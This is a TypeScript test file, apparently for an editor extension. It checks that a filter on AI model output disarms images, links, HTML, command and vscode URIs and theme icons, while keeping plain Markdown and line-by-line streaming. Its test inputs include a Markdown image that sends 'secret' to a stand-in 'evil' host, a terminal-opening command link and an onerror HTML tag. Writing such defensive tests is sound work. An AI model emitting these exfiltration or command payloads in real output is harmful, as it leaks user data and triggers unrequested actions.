import assert from 'node:assert/strict';
import fc from 'fast-check';
import { modelTextFilter } from '../../src/ui/modelText.ts';

const shown = (...chunks: string[]) => {
  const filter = modelTextFilter();
  return [...chunks.map(chunk => filter.push(chunk)), filter.end()].join('');
};

describe('the text of a model', () => {
  const cases: readonly (readonly [name: string, text: string, forbidden: RegExp])[] = [
    ['an image', '![x](https://evil/?q=secret)', /!\[|\]\(/],
    ['a link', '[click](command:workbench.action.terminal.new)', /\]\(|command:w/],
    ['a reference link', '[click][1]\n\n[1]: https://evil', /\]\[|\]:/],
    ['an autolink', '<https://evil>', /<h|:\/\//],
    ['a bare address', 'see https://evil/x and www.evil.com', /https:\/\/|www\.e/],
    ['HTML', '<img src=x onerror=1><a href="x">y</a>', /<[a-z/]/i],
    ['a vscode link', 'vscode://x.y/z', /vscode:\/\//],
    ['a theme icon', '$(error)', /\$\(/],
  ];
  for (const [name, text, forbidden] of cases) {
    it(`leaves ${name} without effect`, () => {
      assert.doesNotMatch(shown(text), forbidden);
    });
  }

  it('is the same however it is cut into chunks', () => {
    const text = cases.map(([, each]) => each).join('\n');
    fc.assert(
      fc.property(fc.array(fc.nat(text.length), { maxLength: 12 }), cuts => {
        const at = [0, ...cuts.sort((a, b) => a - b), text.length];
        const chunks = at.slice(1).map((end, i) => text.slice(at[i], end));
        assert.equal(shown(...chunks), shown(text));
      }),
    );
  });

  it('keeps plain Markdown as it is', () => {
    const plain = '**api** exited `137`, a < b, x: y\n- one\n- two\n```\nerror: no\n```\n';
    assert.equal(shown(plain), plain);
  });

  it('comes line by line, not at the end', () => {
    const filter = modelTextFilter();
    assert.equal(filter.push('one\ntw'), 'one\n');
    assert.equal(filter.push('o'), '');
    assert.equal(filter.end(), 'two');
  });
});
